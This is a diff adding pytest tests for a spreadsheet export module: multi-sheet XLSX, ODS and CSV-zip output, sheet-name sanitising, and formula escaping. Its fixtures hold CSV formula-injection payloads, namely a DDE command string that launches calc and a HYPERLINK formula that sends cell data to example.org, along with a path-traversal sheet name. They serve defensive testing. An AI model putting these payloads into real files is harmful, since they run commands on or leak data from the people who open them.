@@ -13,7 +13,7 @@ import pytest
 from odfdo import Document
 from python_calamine import CalamineWorkbook
 
-from core.tables import TRIGGERS, Cell, safe_cell, to_csv, to_ods, to_xlsx
+from core.tables import TRIGGERS, Cell, Sheet, book, safe_cell, to_csv, to_ods, to_xlsx
 
 FORMULAS = (
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "=IMPORTXML(A1,\"//a\")",
@@ -138,3 +138,44 @@ def test_what_xml_cannot_hold_is_left_out_of_ods_and_a_very_long_text_is_cut() -
     assert shown[1] == ["ab"]
     assert str(shown[2][0]).endswith("x…")
     assert len(str(shown[2][0])) == 32_767
+
+
+PAIR = [Sheet("Quarter: one", ["A"], [["=1+1"], [7]]), Sheet("quarter/ ONE", ["B"], [["+44 161"]]),
+        Sheet("History", ["C"], [])]  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "ods"])
+def test_a_book_holds_its_sheets_in_order_each_under_a_name_of_its_own(kind: str) -> None:
+    found = CalamineWorkbook.from_filelike(io.BytesIO(book(kind, PAIR)))
+    assert found.sheet_names == ["Quarter  one", "quarter  ONE (2)", "History 1"]
+    assert [found.get_sheet_by_index(at).to_python() for at in range(3)] == [
+        [["A"], ["=1+1"], [7.0]], [["B"], ["+44 161"]], [["C"]],
+    ]  # fmt: skip
+
+
+def test_several_sheets_as_csv_are_one_archive_and_one_is_a_file() -> None:
+    sheets = [Sheet("About", ["A"], [["=1+1"]]), Sheet("../etc/About", ["B"], [[PHONE]])]
+    made = book("csv", sheets)
+    assert made == book("zip", sheets), "the same parts make the same bytes"
+    with zipfile.ZipFile(io.BytesIO(made)) as parts:
+        assert parts.namelist() == ["1 About.csv", "2 .. etc About.csv"]
+        assert csv_cells(parts.read("1 About.csv")) == [["A"], ["'=1+1"]]
+    assert book("csv", sheets[:1]) == to_csv(["A"], [["=1+1"]])
+    assert zipfile.is_zipfile(io.BytesIO(book("zip", sheets[:1])))
+
+
+def test_a_book_is_of_a_kind_that_is_known_and_has_a_sheet() -> None:
+    with pytest.raises(KeyError):
+        book("exe", PAIR)
+    with pytest.raises(ValueError, match="at least one sheet"):
+        book("xlsx", [])
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "ods", "csv"])
+def test_half_a_letter_neither_hides_a_formula_nor_stops_a_file(kind: str) -> None:
+    made = book(kind, [Sheet("Odd \ud800", ["\ud800=A"], [["\ud800=1+1"], ["a\udfffb"]])])
+    if kind == "csv":
+        assert csv_cells(made) == [["'=A"], ["'=1+1"], ["ab"]]
+    else:
+        found = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
+        assert found == [["=A"], ["=1+1"], ["ab"]]
